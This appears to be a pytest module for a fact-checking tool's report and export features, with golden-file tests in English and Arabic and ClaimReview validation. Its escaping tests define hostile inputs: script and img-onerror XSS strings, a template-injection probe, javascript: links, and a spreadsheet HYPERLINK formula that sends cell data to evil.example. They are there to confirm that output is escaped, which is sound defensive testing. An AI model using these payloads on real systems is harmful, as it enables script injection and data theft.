"""Reports and exports: golden files for every format in both languages, escaping, ClaimReview rules.

A missing golden file fails. Regenerate them with `pytest --update-goldens` (or CLAIMTRACK_UPDATE_GOLDENS=1),
then review the diff and commit it.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from typing import Any

import helpers
import pytest
from helpers import FIXED_NOW, UPDATE_GOLDENS_ENV, make_sample
from sqlalchemy.engine import Engine

from claimtrack import db, services
from claimtrack.config import load_settings
from claimtrack.models import Actor, Appearance, Claim, ClaimState, Document, Stance, Verdict
from claimtrack.queries import ClaimFilter
from claimtrack.reports import ReportError, render_report, write_export, write_report
from claimtrack.reports.render import md_escape, safe_url
from claimtrack.reports.tabular import neutralise

GOLDEN = Path(__file__).parent / "golden" / "reports"

SCRIPT = '<script>document.title="pwned";document.body.innerHTML="pwned"</script>'
IMG = '"><img src=x onerror="document.title=\'pwned\'">'
SSTI = "{{ 7*7 }}{% raw %}"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
MARKDOWN = "**bold** [link](javascript:alert(1)) <b>x</b>\n# heading\n| cell |"
PAYLOADS = (SCRIPT, IMG, SSTI, FORMULA, MARKDOWN)


def settings(tmp_path: Path) -> Any:
    return load_settings({"CLAIMTRACK_CONFIG": str(tmp_path / "none.toml"),
                          "CLAIMTRACK_ORGANISATION": "Misbar Checks",
                          "CLAIMTRACK_ORGANISATION_URL": "https://checks.example.org/ar"})


def build(engine: Engine) -> dict[str, int]:
    """The sample, plus: the Arabic statement investigated, judged false, reviewed and published;
    the English one under investigation with evidence and a tag."""
    ids = make_sample(engine)
    with db.atomic(engine) as s:
        omar = services.get_analyst(session=s, handle="omar")
        rana = services.get_analyst(session=s, handle="rana")
        ar = ids["ar_statement"]
        claim = s.get(Claim, ar)
        minister = s.get(Actor, claim.claimant_id)  # type: ignore[union-attr]
        minister.same_as = "https://www.wikidata.org/wiki/Q4115189"  # type: ignore[union-attr]
        services.set_state(session=s, by=omar, claim_id=ar, state=ClaimState.investigating)
        services.add_evidence(session=s, by=omar, claim_id=ar, stance=Stance.refutes, reliability="B", credibility=2,
                              url="https://stats.example.org/gdp-2022", title="الهيئة العامة للإحصاء: الناتج المحلي 2022",
                              excerpt="نما الناتج المحلي الإجمالي بنسبة ١٫٢٪ في عام ٢٠٢٢")
        services.add_evidence(session=s, by=omar, claim_id=ar, stance=Stance.context, reliability="A", credibility=3,
                              note="IMF World Economic Outlook estimates 1.4% growth for 2022")
        services.set_verdict(session=s, by=omar, claim_id=ar, verdict=Verdict.false,
                             rationale="تشير بيانات الهيئة العامة للإحصاء إلى نمو بنسبة ١٫٢٪ وليس ٣٪.")
        services.set_state(session=s, by=omar, claim_id=ar, state=ClaimState.in_review)
        services.comment(session=s, by=rana, claim_id=ar, body="راجعت المصدر الرسمي؛ الحكم مسوَّغ.")
        services.set_state(session=s, by=rana, claim_id=ar, state=ClaimState.published)
        en = ids["en_statement"]
        services.set_state(session=s, by=omar, claim_id=en, state=ClaimState.investigating)
        services.add_evidence(session=s, by=omar, claim_id=en, stance=Stance.supports, reliability="C", credibility=3,
                              url="https://news.example.com/economy", title="Economy report",
                              excerpt="Growth was revised up to 3%.")
        services.set_verdict(session=s, by=omar, claim_id=en, verdict=Verdict.mostly_true,
                             rationale="Preliminary figures said 3%; the final figure is lower.")
        services.set_tags(session=s, by=omar, claim_id=en, add=["economy", "growth"])
    return ids


@pytest.fixture
def built(engine: Engine, fixed_clock: datetime) -> tuple[Engine, dict[str, int]]:
    return engine, build(engine)


def check_golden(name: str, actual: str) -> None:
    """`actual` must equal tests/golden/reports/NAME (helpers.check_golden: a missing file fails)."""
    helpers.check_golden(GOLDEN / name, actual)


def report(engine: Engine, **kw: Any) -> Any:
    kw.setdefault("filt", None)
    kw.setdefault("claim_id", None)
    with db.session(engine) as s:
        return render_report(session=s, now=FIXED_NOW, **kw)


# --- golden files ----------------------------------------------------------------------------------


@pytest.mark.parametrize("lang", ["en", "ar"])
@pytest.mark.parametrize("fmt", ["md", "html", "json", "csv"])
@pytest.mark.parametrize("scope", ["claim", "dossier"])
def test_report_golden(built: tuple[Engine, dict[str, int]], tmp_path: Path, scope: str, fmt: str, lang: str) -> None:
    engine, ids = built
    claim_id = ids["ar_statement"] if scope == "claim" else None
    out = report(engine, claim_id=claim_id, fmt=fmt, lang=lang, settings=settings(tmp_path))
    check_golden(f"{scope}-{lang}.{fmt}", out)


@pytest.mark.parametrize("fmt", ["json", "csv", "claimreview"])
def test_export_golden(built: tuple[Engine, dict[str, int]], tmp_path: Path, fmt: str) -> None:
    engine, _ = built
    buf = io.StringIO()
    with db.session(engine) as s:
        n = write_export(session=s, fmt=fmt, out=buf, settings=settings(tmp_path), now=FIXED_NOW)
    assert n == (1 if fmt == "claimreview" else 4)
    check_golden(f"export.{'claimreview.json' if fmt == 'claimreview' else fmt}", buf.getvalue())


def pdf_text(data: bytes, tmp_path: Path) -> tuple[int, str]:
    """(page count, whitespace-normalised text) via poppler-utils (pdfinfo, pdftotext)."""
    if not (shutil.which("pdftotext") and shutil.which("pdfinfo")):
        if os.environ.get("CI"):
            pytest.fail("poppler-utils (pdftotext, pdfinfo) must be installed in CI")
        pytest.skip("poppler-utils not installed")
    f = tmp_path / "r.pdf"
    f.write_bytes(data)
    info = subprocess.run(["pdfinfo", str(f)], capture_output=True, check=True, text=True).stdout
    pages = int(re.search(r"^Pages:\s+(\d+)", info, re.M).group(1))  # type: ignore[union-attr]
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(f), "-"], capture_output=True, check=True).stdout
    return pages, " ".join(text.decode("utf-8").split())


@pytest.mark.parametrize("lang", ["en", "ar"])
def test_pdf_golden(built: tuple[Engine, dict[str, int]], tmp_path: Path, lang: str) -> None:
    pytest.importorskip("weasyprint")
    engine, ids = built
    data = report(engine, claim_id=ids["ar_statement"], fmt="pdf", lang=lang, settings=settings(tmp_path))
    assert data.startswith(b"%PDF-")
    pages, text = pdf_text(data, tmp_path)
    assert pages >= 1
    check_golden(f"claim-{lang}.pdf.txt", f"pages: {pages}\n{text}\n")
    assert "Misbar Checks" in text


def test_pdf_without_weasyprint_says_what_to_install(built: tuple[Engine, dict[str, int]],
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    import builtins

    real_import = builtins.__import__

    def no_weasy(name: str, *a: Any, **kw: Any) -> Any:
        if name == "weasyprint":
            raise ImportError("No module named 'weasyprint'")
        return real_import(name, *a, **kw)

    monkeypatch.setattr(builtins, "__import__", no_weasy)
    engine, ids = built
    with pytest.raises(ReportError, match=r"pip install 'claimtrack\[pdf\]'"):
        report(engine, claim_id=ids["ar_statement"], fmt="pdf")


# --- content ---------------------------------------------------------------------------------------


def test_report_json_is_complete(built: tuple[Engine, dict[str, int]]) -> None:
    engine, ids = built
    doc = json.loads(report(engine, fmt="json"))
    assert doc["schema"] == "claimtrack-report" and doc["schema_version"] == 1
    assert doc["summary"]["claims"] == 4
    assert doc["summary"]["by_verdict"] == {"unrated": 2, "mostly_true": 1, "false": 1}
    assert {c["name"] for c in doc["summary"]["claimants"]} == {"Sami al-Harbi", "Opposition"}
    c = next(c for c in doc["claims"] if c["id"] == ids["ar_statement"])
    assert c["rating"] == {"value": 1, "label": "False", "worst": 1, "best": 5}
    assert c["investigator"] == "omar" and c["reviewer"] == "rana" and c["published_at"]
    assert [a["name"] for a in c["affiliations"]] == ["Ministry of Finance"]
    assert sum(a["first"] for a in c["appearances"]) == 1 and c["appearances"][0]["first"]
    assert [e["grade"] for e in c["evidence"]] == ["B2", "A3"]
    assert c["evidence"][0]["reliability_label"] == "Usually reliable"
    assert c["evidence"][0]["credibility_label"] == "Probably true"
    denial = [lk for lk in c["links"] if lk["relation"] == "denies"]
    assert denial and denial[0]["direction"] == "incoming" and denial[0]["claim"]["id"] == ids["ar_denial"]
    actions = [e["action"] for e in c["events"]]
    assert actions[:2] == ["set_state", "add"] and actions[-1] == "set_state"
    assert c["events"][-1]["changes"][0] == {"field": "state", "from": "in_review", "to": "published"}


@pytest.mark.parametrize("filt, expected", [
    (ClaimFilter(verdict=Verdict.false), ["ar_statement"]),
    (ClaimFilter(tag="economy"), ["en_statement"]),
    (ClaimFilter(claimant="Opposition"), ["ar_denial", "en_denial"]),
    (ClaimFilter(state=ClaimState.investigating), ["en_statement"]),
])
def test_dossier_filters(built: tuple[Engine, dict[str, int]], filt: ClaimFilter, expected: list[str]) -> None:
    engine, ids = built
    doc = json.loads(report(engine, fmt="json", filt=filt))
    assert [c["id"] for c in doc["claims"]] == [ids[k] for k in expected]
    assert doc["summary"]["claims"] == len(expected)


def test_document_and_date_filters(built: tuple[Engine, dict[str, int]]) -> None:
    engine, ids = built
    from datetime import date

    doc = json.loads(report(engine, fmt="json", filt=ClaimFilter(document_id=ids["doc_en"])))
    assert [c["id"] for c in doc["claims"]] == [ids["en_statement"], ids["en_denial"]]
    doc = json.loads(report(engine, fmt="json", filt=ClaimFilter(since=date(2024, 1, 1))))
    assert doc["claims"] == [] and doc["summary"]["claims"] == 0


def test_arabic_labels_are_arabic(built: tuple[Engine, dict[str, int]]) -> None:
    engine, ids = built
    html = report(engine, claim_id=ids["ar_statement"], fmt="html", lang="ar")
    assert '<html lang="ar" dir="rtl">' in html
    for label in ("تقرير التحقق", "مواضع الظهور", "أول ظهور", "الأدلة", "موثوقية المصدر", "مصداقية المعلومة",
                  "موثوق عادةً", "صحيحة على الأرجح", "الحكم", "خاطئ", "المحقق", "المراجع", "السجل الزمني",
                  "هذا الادعاء منفيّ في"):
        assert label in html, label
    assert "Noto Naskh Arabic" in html and 'dir="auto"' in html and "<bdi>" in html


def test_csv_excel_bom_and_header(built: tuple[Engine, dict[str, int]]) -> None:
    engine, _ = built
    plain = report(engine, fmt="csv")
    excel = report(engine, fmt="csv", excel=True, lang="ar")
    assert not plain.startswith("\ufeff") and excel.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(excel.lstrip("\ufeff"))))
    assert rows[0][0] == "المعرّف" and len(rows) == 5
    english = list(csv.reader(io.StringIO(plain)))
    kind, state = english[0].index("kind"), english[0].index("state")
    assert (english[1][kind], english[1][state]) == ("statement", "published")  # codes in English and exports
    assert (rows[1][kind], rows[1][state]) == ("تصريح", "منشور")  # words in an Arabic report


def test_custom_template(built: tuple[Engine, dict[str, int]], tmp_path: Path) -> None:
    engine, ids = built
    tpl = tmp_path / "mine.html.j2"
    tpl.write_text('{% extends "report.html.j2" %}{% block footer %}<footer>OUR DESK {{ report.organisation.name }}'
                   '</footer>{% endblock %}', encoding="utf-8")
    html = report(engine, claim_id=ids["ar_statement"], fmt="html", template=tpl, settings=settings(tmp_path))
    assert "OUR DESK Misbar Checks" in html and "مواضع الظهور" not in html and "Appearances" in html
    md_tpl = tmp_path / "brief.md"
    md_tpl.write_text("{% for c in claims %}* {{ c.id }}: {{ c.text }}\n{% endfor %}", encoding="utf-8")
    assert report(engine, fmt="md", template=md_tpl).startswith("* 1: ")
    with pytest.raises(ReportError, match="template not found"):
        report(engine, fmt="html", template=tmp_path / "nope.j2")
    bad = tmp_path / "bad.j2"
    bad.write_text("{% for %}", encoding="utf-8")
    with pytest.raises(ReportError, match="line 1"):
        report(engine, fmt="md", template=bad)


def test_bad_arguments(built: tuple[Engine, dict[str, int]]) -> None:
    engine, _ = built
    with pytest.raises(ReportError, match="no claim with id 999"):
        report(engine, claim_id=999, fmt="md")
    with pytest.raises(ReportError, match="unknown report format"):
        report(engine, fmt="docx")
    with pytest.raises(ReportError, match="en or ar"):
        report(engine, fmt="md", lang="fr")
    assert issubclass(ReportError, services.ClaimtrackError)


# --- ClaimReview -----------------------------------------------------------------------------------


def test_claimreview_fields(built: tuple[Engine, dict[str, int]], tmp_path: Path) -> None:
    engine, ids = built
    buf = io.StringIO()
    with db.session(engine) as s:
        assert write_export(session=s, fmt="claimreview", out=buf, settings=settings(tmp_path)) == 1
    (r,) = json.loads(buf.getvalue())
    assert r["@context"] == "https://schema.org" and r["@type"] == "ClaimReview"
    assert r["url"] == f"https://checks.example.org/ar/claim-{ids['ar_statement']}"
    assert r["claimReviewed"] == "الاقتصاد نما بنسبة ٣٪ العام الماضي"
    assert r["reviewRating"] == {"@type": "Rating", "alternateName": "False", "ratingValue": 1, "worstRating": 1,
                                 "bestRating": 5, "ratingExplanation": r["reviewRating"]["ratingExplanation"]}
    assert r["author"]["name"] == "Misbar Checks" and r["datePublished"] == "2023-09-01"
    item = r["itemReviewed"]
    assert item["@type"] == "Claim" and item["author"]["name"] == "Sami al-Harbi"
    assert item["author"]["sameAs"] == "https://www.wikidata.org/wiki/Q4115189"
    assert item["datePublished"] == "2023-08-31" and item["firstAppearance"] == item["appearance"][0]


def test_claimreview_refuses_invalid_records(built: tuple[Engine, dict[str, int]], tmp_path: Path) -> None:
    engine, _ = built
    bad = load_settings({"CLAIMTRACK_CONFIG": str(tmp_path / "none.toml"),
                         "CLAIMTRACK_ORGANISATION_URL": "not a url"})
    with db.session(engine) as s, pytest.raises(ReportError, match=r"claim 1: .*missing url"):
        write_export(session=s, fmt="claimreview", out=io.StringIO(), settings=bad)
    with db.atomic(engine) as s:  # a published claim whose text was emptied (only possible by hand)
        s.get(Claim, 1).text = "  "  # type: ignore[union-attr]
    with db.session(engine) as s, pytest.raises(ReportError, match="missing claimReviewed"):
        write_export(session=s, fmt="claimreview", out=io.StringIO(), settings=settings(tmp_path))


def test_claimreview_unverifiable_has_label_only(engine: Engine, fixed_clock: datetime, tmp_path: Path) -> None:
    ids = make_sample(engine)
    with db.atomic(engine) as s:
        omar, rana = (services.get_analyst(session=s, handle=h) for h in ("omar", "rana"))
        cid = ids["en_statement"]
        services.set_state(session=s, by=omar, claim_id=cid, state=ClaimState.investigating)
        services.set_verdict(session=s, by=omar, claim_id=cid, verdict=Verdict.unverifiable, rationale="No data.")
        services.set_state(session=s, by=omar, claim_id=cid, state=ClaimState.in_review)
        services.set_state(session=s, by=rana, claim_id=cid, state=ClaimState.published)
    buf = io.StringIO()
    with db.session(engine) as s:
        write_export(session=s, fmt="claimreview", out=buf, settings=settings(tmp_path))
    (r,) = json.loads(buf.getvalue())
    assert r["reviewRating"] == {"@type": "Rating", "alternateName": "Unverifiable", "ratingExplanation": "No data."}


# --- escaping --------------------------------------------------------------------------------------


def build_hostile(engine: Engine) -> int:
    """A claim whose every user string is an attack: claim, quote, claimant, evidence, comment, rationale."""
    ids = make_sample(engine)
    with db.atomic(engine) as s:
        omar = services.get_analyst(session=s, handle="omar")
        actor = Actor(canonical_name=IMG, name_en=SCRIPT, kind="person", same_as="javascript:alert(1)")
        s.add(actor)
        s.flush()
        claim = services.create_claim(session=s, by=omar, text="\n".join(PAYLOADS), claimant=actor, language="en")
        doc = s.get(Document, ids["doc_en"])
        doc.url = "javascript:alert(document.domain)"  # type: ignore[union-attr]
        doc.title = SCRIPT  # type: ignore[union-attr]
        s.add(Appearance(claim_id=claim.id, document_id=doc.id, claimant_id=actor.id, claimant_surface=FORMULA,  # type: ignore[arg-type]
                         quote=" ".join(PAYLOADS), start=0, end=5))
        services.link_claims(session=s, by=omar, source_id=claim.id, relation=services.LinkRelation.denies,  # type: ignore[arg-type]
                             target_id=ids["en_statement"], note=SCRIPT)
        services.add_evidence(session=s, by=omar, claim_id=claim.id, stance=Stance.refutes,  # type: ignore[arg-type]
                              url="https://ex.example/\"><script>alert(1)</script>", title=IMG, excerpt=FORMULA + SCRIPT)
        services.add_evidence(session=s, by=omar, claim_id=claim.id, stance=Stance.context, note=MARKDOWN)  # type: ignore[arg-type]
        services.comment(session=s, by=omar, claim_id=claim.id, body=SCRIPT + SSTI)  # type: ignore[arg-type]
        services.set_verdict(session=s, by=omar, claim_id=claim.id, verdict=Verdict.false, rationale=IMG + MARKDOWN)  # type: ignore[arg-type]
        services.set_tags(session=s, by=omar, claim_id=claim.id, add=[FORMULA, "@SUM(A1)"])  # type: ignore[arg-type]
        return claim.id  # type: ignore[return-value]


@pytest.fixture
def hostile(engine: Engine, fixed_clock: datetime) -> tuple[Engine, int]:
    return engine, build_hostile(engine)


@pytest.mark.parametrize("lang", ["en", "ar"])
def test_html_escapes_everything(hostile: tuple[Engine, int], lang: str) -> None:
    engine, cid = hostile
    for claim_id in (cid, None):
        html = report(engine, claim_id=claim_id, fmt="html", lang=lang)
        assert "<script" not in html.lower() and "<img" not in html.lower()
        assert 'href="javascript' not in html and "<b>" not in html
        assert "&lt;script&gt;" in html and "{{ 7*7 }}" in html and "49" not in html
        assert "Content-Security-Policy" in html


def test_markdown_escapes_everything(hostile: tuple[Engine, int]) -> None:
    engine, cid = hostile
    md = report(engine, claim_id=cid, fmt="md")
    assert "<script" not in md and "<img" not in md and "<b>" not in md
    assert "&lt;script&gt;" in md
    assert "](javascript" not in md and "](<javascript" not in md
    assert "**bold**" not in md and r"\*\*bold\*\*" in md
    assert "\n# heading" not in md and "49" not in md
    assert md_escape("a\n# b | c") == r"a # b \| c" and md_escape("1. x").startswith("1\\.")
    assert safe_url("javascript:alert(1)") is None and safe_url(" https://x.org ") == "https://x.org"


def test_csv_neutralises_formulas(hostile: tuple[Engine, int]) -> None:
    engine, cid = hostile
    for text in (report(engine, fmt="csv"), report(engine, fmt="csv", lang="ar", excel=True)):
        rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
        row = next(r for r in rows[1:] if r[0] == str(cid))
        assert row[1].startswith("'<script>") or row[1].startswith("<script>")
        assert any(c.startswith("'=HYPERLINK(") for c in cells)
    assert neutralise("-1") == "'-1" and neutralise("\t=1") == "'\t=1" and neutralise(5) == 5
    assert neutralise(" =cmd") == "' =cmd" and neutralise("plain") == "plain"


def test_json_keeps_text_exact(hostile: tuple[Engine, int]) -> None:
    engine, cid = hostile
    doc = json.loads(report(engine, claim_id=cid, fmt="json"))
    c = doc["claims"][0]
    assert c["text"] == "\n".join(PAYLOADS) and c["comments"][0]["body"] == SCRIPT + SSTI
    assert c["appearances"][0]["quote"] == " ".join(PAYLOADS)


def test_write_report_to_text_and_binary_files(built: tuple[Engine, dict[str, int]], tmp_path: Path) -> None:
    engine, ids = built
    with db.session(engine) as s, (tmp_path / "r.md").open("w", encoding="utf-8") as fh:
        write_report(session=s, filt=None, claim_id=ids["ar_statement"], fmt="md", out=fh, now=FIXED_NOW)
    assert (tmp_path / "r.md").read_text(encoding="utf-8").startswith("# Verification report #")


# --- Markdown structure, goldens, quotation marks --------------------------------------------------


def md_outline(md: str) -> tuple[list[tuple[int, str]], list[tuple[bool, list[str]]], int]:
    """(headings as (level, text), lists as (ordered, [item text]), table count), parsed by markdown-it-py."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark").enable("table").parse(md)
    headings: list[tuple[int, str]] = []
    lists: list[tuple[bool, list[str]]] = []
    open_lists: list[list[str]] = []
    for i, t in enumerate(tokens):
        if t.type == "heading_open":
            headings.append((int(t.tag[1]), tokens[i + 1].content))
        elif t.type in ("bullet_list_open", "ordered_list_open"):
            lists.append((t.type == "ordered_list_open", []))
            open_lists.append(lists[-1][1])
        elif t.type in ("bullet_list_close", "ordered_list_close"):
            open_lists.pop()
        elif t.type == "list_item_open":
            inline = next(x for x in tokens[i + 1:] if x.type == "inline")
            open_lists[-1].append(inline.content)
    return headings, lists, sum(t.type == "table_open" for t in tokens)


def bold_label(item: str) -> str:
    """`**Claimant:** Sami` -> `Claimant` (the label of a fact line)."""
    m = re.match(r"\*\*(.+?):\*\*", item)
    return m.group(1) if m else ""


@pytest.mark.parametrize("lang", ["en", "ar"])
def test_markdown_claim_report_structure(built: tuple[Engine, dict[str, int]], tmp_path: Path, lang: str) -> None:
    from claimtrack.reports.labels import labels

    engine, ids = built
    L = labels(lang)
    cid = ids["ar_statement"]
    md = report(engine, claim_id=cid, fmt="md", lang=lang, settings=settings(tmp_path))
    data = json.loads(report(engine, claim_id=cid, fmt="json", lang=lang))["claims"][0]
    headings, lists, tables = md_outline(md)
    assert headings == [
        (1, f"{L['report_title']} #{cid}"),
        (2, f"{L['claim']} #{cid} · {L['kinds']['statement']} · {L['verdicts']['false']} · {L['states']['published']}"),
        *[(3, L[k]) for k in ("appearances", "denials", "evidence", "verdict", "comments", "timeline")],
    ]
    bullets = [items for ordered, items in lists if not ordered]
    facts, denied_by, verdict_facts, comments = bullets
    assert [bold_label(i) for i in facts] == [L["claimant"], L["affiliation"], L["event_date"], L["first_seen"]]
    assert [bold_label(i) for i in verdict_facts] == [L["investigator"], L["reviewer"], L["published_at"],
                                                       L["updated_at"]]
    assert not [i for i in facts + verdict_facts if "- **" in i or "\n" in i]  # one fact per item, one line
    assert denied_by == [f"#{lk['claim']['id']} {lk['claim']['text']} ({lk['claim']['claimant']})"
                         for lk in data["links"] if lk["relation"] == "denies"]
    assert len(comments) == len(data["comments"]) == 1
    (timeline,) = [items for ordered, items in lists if ordered]
    assert len(timeline) == len(data["events"]) == 7
    assert all(item.startswith("2023-09-01 10:00 · ") for item in timeline)
    first_changes = timeline[0].split(": ", 1)[1]  # state New → Investigating, investigator omar
    assert first_changes.count(L["comma"]) == 1 and (lang == "en" or ", " not in first_changes)
    assert f"{L['fields']['kind']} {L['evidence_kinds']['url']}{L['comma']}" in timeline[1]  # evidence kind shown as a word
    assert tables == 2  # appearances and evidence


@pytest.mark.parametrize("lang", ["en", "ar"])
def test_markdown_dossier_structure(built: tuple[Engine, dict[str, int]], lang: str) -> None:
    from claimtrack.reports.labels import labels

    engine, _ = built
    L = labels(lang)
    md = report(engine, fmt="md", lang=lang)
    doc = json.loads(report(engine, fmt="json", lang=lang))
    headings, lists, _ = md_outline(md)
    assert headings[0] == (1, L["dossier_title"])
    claim_headings = [text for level, text in headings if level == 2 and text.startswith(L["claim"] + " #")]
    assert [int(t.split("#")[1].split()[0]) for t in claim_headings] == [c["id"] for c in doc["claims"]]
    claimants = lists[0][1]
    assert claimants == [f"{a['name']}: {a['claims']}" for a in doc["summary"]["claimants"]]
    fact_lists = [items for ordered, items in lists if items and bold_label(items[0]) == L["claimant"]]
    assert len(fact_lists) == len(doc["claims"])
    for items in fact_lists:
        assert bold_label(items[1]) == L["affiliation"] and all(i.count("**") == 2 for i in items)


def test_every_golden_file_is_checked_and_none_says_none() -> None:
    """No golden file, in any format, contains the word None (a Python None leaking into a report)."""
    expected = {f"{scope}-{lang}.{fmt}" for scope in ("claim", "dossier") for lang in ("en", "ar")
                for fmt in ("md", "html", "json", "csv")}
    expected |= {"claim-en.pdf.txt", "claim-ar.pdf.txt", "export.json", "export.csv", "export.claimreview.json"}
    files = {p.name: p for p in GOLDEN.iterdir()}
    assert set(files) == expected, "a golden file is missing or no longer checked by any test"
    leaks = {name: n for name, p in files.items() if (n := len(re.findall(r"\bNone\b", p.read_text("utf-8"))))}
    assert leaks == {}


def test_missing_golden_fails_unless_updating(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys.modules[__name__], "GOLDEN", tmp_path)
    monkeypatch.delenv(UPDATE_GOLDENS_ENV, raising=False)
    monkeypatch.delenv("CI", raising=False)
    with pytest.raises(pytest.fail.Exception, match="missing"):
        check_golden("new.md", "text")
    assert not (tmp_path / "new.md").exists()
    monkeypatch.setenv(UPDATE_GOLDENS_ENV, "1")
    check_golden("new.md", "text")
    assert (tmp_path / "new.md").read_text(encoding="utf-8") == "text"
    monkeypatch.delenv(UPDATE_GOLDENS_ENV)
    check_golden("new.md", "text")
    with pytest.raises(AssertionError):
        check_golden("new.md", "other")


@pytest.mark.parametrize("quote, shown", [
    ("plain words", "«plain words»"),
    ("«already quoted»", "«already quoted»"),
    ("«already quoted».", "«already quoted»."),
    ("«cut before its closing mark.", "«cut before its closing mark.»"),
    ("cut after its opening mark».", "«cut after its opening mark»."),
    ("«inner» then more words", '"«inner» then more words"'),
    ("words then «inner»", '"words then «inner»"'),
    ('"straight quotes"', '"straight quotes"'),
    ('he said "yes"', '«he said "yes"»'),
    ("قال «نشعر بالقلق» أمس", "«قال «نشعر بالقلق» أمس»"),
    ("  ", ""),
])
def test_quotation_marks_are_never_doubled(quote: str, shown: str) -> None:
    from claimtrack.reports.quotes import quoted

    assert quoted(quote) == shown
    assert "««" not in quoted(quote) and "»»" not in quoted(quote)


def test_html_never_breaks_words(built: tuple[Engine, dict[str, int]]) -> None:
    """Lines wrap at spaces: no `overflow-wrap: anywhere` / `word-break: break-all`; file names stay whole."""
    engine, ids = built
    html = report(engine, claim_id=ids["ar_statement"], fmt="html", lang="ar")
    assert "anywhere" not in html and "break-all" not in html
    assert re.search(r"\.file \{[^}]*white-space: nowrap", html)
    assert '<bdi class="file" dir="ltr">sample-ar.txt</bdi>' in html


def test_times_show_minutes_but_no_made_up_midnight() -> None:
    from claimtrack.reports.render import _when

    assert _when("2023-09-01T10:05:59+00:00") == "2023-09-01 10:05"
    assert _when("2023-08-31T00:00:00+00:00") == "2023-08-31"  # first seen from a publication date
    assert _when("2023-08-31T00:00:00.250000+00:00") == "2023-08-31 00:00"
    assert _when("2023-03") == "2023-03" and _when(None) == ""
